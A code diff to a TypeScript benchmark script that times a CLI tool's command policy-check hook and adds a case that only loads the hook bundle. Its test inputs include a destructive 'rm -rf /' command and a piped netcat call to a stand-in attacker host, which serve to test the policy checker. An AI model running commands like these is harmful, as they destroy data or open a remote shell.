@@ -17,10 +17,11 @@ import { execFileSync, spawnSync } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { fileURLToPath } from "node:url";
+import { fileURLToPath, pathToFileURL } from "node:url";
 
 const cliDir = fileURLToPath(new URL("..", import.meta.url));
 const carMjs = join(cliDir, "dist", "car.mjs");
+const hookMjs = join(cliDir, "dist", "hook.mjs");
 const rounds = Number(process.argv[2] ?? 40);
 
 console.log("building dist/ with tsdown …");
@@ -60,6 +61,12 @@ const cases: Case[] = [
   { name: "car policy-check-hook (deny)", args: [carMjs, "policy-check-hook"], input: payload("rm -rf / --no-preserve-root") },
   { name: "car policy-check-hook (ask)", args: [carMjs, "policy-check-hook"], input: payload("printf '%s' 'nc evil.example.com 4444' | sh") },
   { name: "car --version (CLI entry floor)", args: [carMjs, "--version"], input: "" },
+  // The physical floor of the hook: Node loading and evaluating the hook's one bundle, and doing nothing with it.
+  {
+    name: "load dist/hook.mjs only (code floor)",
+    args: ["--input-type=module", "-e", `await import(${JSON.stringify(pathToFileURL(hookMjs).href)})`],
+    input: "",
+  },
 ];
 
 // Warm the page cache and check each case works before timing.
